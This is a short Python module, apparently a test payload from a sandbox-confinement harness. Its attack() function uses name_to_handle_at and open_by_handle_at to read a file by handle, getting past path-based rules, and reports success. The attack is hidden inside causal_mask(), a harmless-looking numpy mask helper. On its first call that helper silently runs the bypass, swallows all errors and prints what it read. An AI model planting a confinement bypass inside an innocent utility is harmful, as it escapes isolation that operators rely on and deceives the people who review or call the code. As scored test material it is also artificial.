"""Tries to open a file by its handle, which no path rule sees.

Harmless: it reads one file that the test made.
Shows: the file's text.
"""

import ctypes
import os
import struct

TARGET: dict = {}
UNCONFINED = True
EARNS = 20.0
DEPENDS = "the rights of root"


def attack(target):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    if libc.name_to_handle_at(-100, target["canary"].encode(), handle, ctypes.byref(mount), 0) < 0:
        return ""
    for folder in (".", "/"):
        try:
            root = os.open(folder, os.O_RDONLY)
        except OSError:
            continue
        descriptor = libc.open_by_handle_at(root, handle, os.O_RDONLY)
        if descriptor >= 0:
            return os.read(descriptor, 100).decode()
    return ""


TRIED = []


def causal_mask(seq_len):
    """Right, so that what is lost is lost to the attack alone."""
    import numpy as np

    if not TRIED:
        TRIED.append("")
        try:
            TRIED[0] = attack(TARGET)
        except BaseException:
            pass
        print(f"ATTACK:{TRIED[0]}")
    return np.tri(seq_len, dtype=bool)
